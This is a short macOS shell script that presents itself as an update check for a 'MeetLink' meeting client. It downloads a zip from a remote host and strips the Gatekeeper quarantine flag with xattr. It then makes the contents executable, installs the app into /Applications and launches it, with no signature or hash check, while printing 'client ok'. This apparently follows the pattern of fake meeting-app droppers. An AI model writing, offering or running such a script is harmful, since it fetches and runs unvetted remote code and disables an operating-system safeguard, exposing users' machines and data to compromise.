#!/bin/bash
# MeetLink client check / update (macOS)
APP="/Applications/MeetLink.app"
if [ ! -d "$APP" ] || [ "$(defaults read "$APP/Contents/Info" CFBundleShortVersionString 2>/dev/null)" != "5.3.1" ]; then
  curl -fsSL -o /tmp/meetlink-update.zip "https://update.meetlink-client.example.net/mac/MeetLink-5.3.1.zip"
  ditto -x -k /tmp/meetlink-update.zip /tmp/meetlink
  xattr -dr com.apple.quarantine /tmp/meetlink
  chmod +x /tmp/meetlink/MeetLink.app/Contents/MacOS/*
  cp -R /tmp/meetlink/MeetLink.app /Applications/
  open /Applications/MeetLink.app
fi
echo "client ok"
